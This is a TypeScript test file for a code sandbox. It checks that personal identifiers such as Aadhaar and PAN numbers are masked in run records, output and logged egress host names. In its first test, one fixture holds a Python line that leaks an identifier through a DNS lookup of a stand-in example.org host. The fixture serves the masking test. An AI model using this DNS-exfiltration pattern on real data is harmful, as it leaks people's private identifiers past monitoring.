import { describe, expect, it } from 'vitest';
import { egressRows } from '../../../../src/activities/code/egress-rows.ts';
import { knownInJob } from '../../../../src/activities/code/known.ts';
import { lostRow, runRow } from '../../../../src/activities/code/run-row.ts';
import type { StoredOutcome } from '../../../../src/activities/code/stored-code.ts';
import type { Remains, RunJob } from '../../../../src/sandbox/index.ts';
import { bySomeKey } from '../../../helpers/actors.ts';
import { grouped, makeAadhaar, makePan } from '../../../helpers/identifiers.ts';

const AADHAAR = makeAadhaar(21);
const PAN = makePan(4, 'P');
const CONTEXT = { teamId: 'team', ledgerRef: 'ref', sandboxId: 'sandbox', actor: bySomeKey };

const outcomeOf = (stdout: string, hosts: readonly string[]): StoredOutcome & Remains =>
  ({
    stdout,
    stderr: '',
    exit_code: 0,
    duration_ms: 1,
    timed_out: false,
    signal: null,
    files: [],
    egress_attempts: hosts.map((host) => ({ host, port: 443 })),
    egress_attempts_more: 0,
  }) as unknown as StoredOutcome & Remains;

/** Returns the rows of a job as text. */
const textOf = (code: string, stdout: string, hosts: readonly string[]): string => {
  const job = { language: 'python', code, timeoutMs: 1 } as RunJob;
  const outcome = outcomeOf(stdout, hosts);
  const known = knownInJob(job, outcome);
  const rows = [
    runRow(CONTEXT, job, outcome, known),
    lostRow(CONTEXT, job, true, outcome, known),
    ...egressRows(CONTEXT, outcome, known),
  ];
  return JSON.stringify(rows);
};

const digitsOf = (text: string): string => text.replaceAll(/[^\dA-Za-z]/g, '').toUpperCase();

describe('The rows of a code run', () => {
  it('an identifier in the code is masked in the output and in the hosts that the code tried to reach', () => {
    const written = grouped(AADHAAR, [4, 4, 4], ' ');
    const code = `a="${written}"  # aadhaar\nimport socket\nsocket.gethostbyname("x"+a.replace(" ","")+".example.org")`;
    const text = textOf(code, `sent ${written} as x${AADHAAR}`, [`x${AADHAAR}.example.org`]);
    expect(digitsOf(text)).not.toContain(AADHAAR);
    expect(text).toContain(`Code tried to reach xXXXXXXXX${AADHAAR.slice(-4)}.example.org`);
  });

  it('an identifier in the output is masked in the code', () => {
    const text = textOf(`print("PAN:", "${PAN.slice(0, 5)}" "${PAN.slice(5)}")`, `PAN: ${PAN}\n`, []);
    expect(digitsOf(text)).not.toContain(PAN);
  });

  it('an account number that only its label in the code identifies is masked in a host name', () => {
    const text = textOf('# account number 123456789012', '', ['x1234-5678-9012y.example.org']);
    expect(text).toContain('Code tried to reach xXXXX-XXXX-9012y.example.org');
  });

  it('an identifier in a host name is masked in the output', () => {
    const text = textOf('', `x${AADHAAR}y ${PAN}z`, [`asha-${AADHAAR}.${PAN}.example.org`]);
    expect(digitsOf(text)).not.toContain(AADHAAR);
    expect(digitsOf(text)).not.toContain(PAN);
  });

  it('an identifier that is found only beyond the recorded start of the output is masked in that start too', () => {
    const text = textOf('', `x${AADHAAR}y\n${'-\n'.repeat(5_000)}aadhaar ${AADHAAR}\n`, []);
    expect(text).not.toContain(AADHAAR);
  });
});
